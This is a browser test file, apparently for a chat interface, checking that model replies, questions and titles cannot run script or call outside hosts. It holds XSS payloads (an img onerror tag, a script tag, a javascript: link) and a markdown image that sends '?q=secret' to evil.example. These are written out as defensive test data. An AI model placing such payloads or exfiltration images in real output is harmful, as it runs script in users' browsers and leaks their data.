import { PAYLOADS as payloads } from '@folio/markdown/testing/payloads'
import { expect, test } from 'vitest'
import { inPieces } from './world/pieces.ts'
import { soon, useWorld } from './world/index.ts'

const world = useWorld()

/** Those of the unit tests, so that one that runs is noticed. */
const PAYLOADS = payloads.map(payload => payload.replaceAll('alert(1)', 'ran()').replaceAll('\u0000', '\uFFFD'))

test('nothing in a reply, a question or a title runs or calls anybody, streaming or stored', async () => {
  world.model.script(inPieces(PAYLOADS.map((payload, n) => `Payload ${n}\n\n${payload}`).join('\n\n'), 29, 2))
  const page = await world.guest()
  await page.tab.addInitScript(() => Object.assign(window, { ran: () => Object.assign(window, { hasRun: true }) }))
  await page.reload()
  const question = `<img src=https://evil.example/q.png onerror=ran()> <script>ran()</script> [x](javascript:ran())`
  await page.ask(question)
  await page.ended()
  const check = async () => {
    expect(await page.text()).toContain(`Payload ${PAYLOADS.length - 1}`)
    expect(await page.tab.evaluate(() => Reflect.get(window, 'hasRun'))).toBeUndefined()
    expect(await page.questions.allInnerTexts()).toEqual([question])
    const reply = page.prose()
    expect(
      await reply.locator('img, script, iframe, object, embed, video, audio, svg, style, link, form').count(),
    ).toBe(0)
    const addresses = await reply.locator('[href]').evaluateAll(all => all.map(a => a.getAttribute('href') ?? ''))
    expect(addresses.length).toBeGreaterThan(3)
    expect(addresses.filter(address => !/^(?:https?:\/\/|mailto:)/.test(address))).toEqual([])
  }
  await check()
  // A mouse that wanders over everything sets off nothing either.
  await page
    .prose()
    .locator('*')
    .evaluateAll(all => all.forEach(each => each.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))))
  await page.reload()
  await page.ended()
  await check()
  expect(page.faults).toEqual([])
})

test('a picture is a link that names its host', async () => {
  world.model.script([{ text: '![A secret chart](https://evil.example/p.png?q=secret)' }])
  const page = await world.guest()
  await page.ask('Show me')
  await page.ended()
  const link = page.prose().getByRole('link')
  expect(await link.innerText()).toMatch(/A secret chart[^]*evil\.example/)
  expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
})

test('what an attack would do is seen here, and stopped by the policy', async () => {
  const page = await world.guest()
  await page.tab.evaluate(() => {
    const image = document.createElement('img')
    image.src = 'https://evil.example/p.png'
    document.body.append(image)
  })
  await soon(() => page.faults.join()).toContain('evil.example')
  page.faults.length = 0
  const refused = await page.tab.evaluate(() => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>x</b>')
      return false
    } catch {
      return true
    }
  })
  expect(refused).toBe(true)
  await soon(() => page.faults.length).toBeGreaterThan(0)
  page.faults.length = 0
})
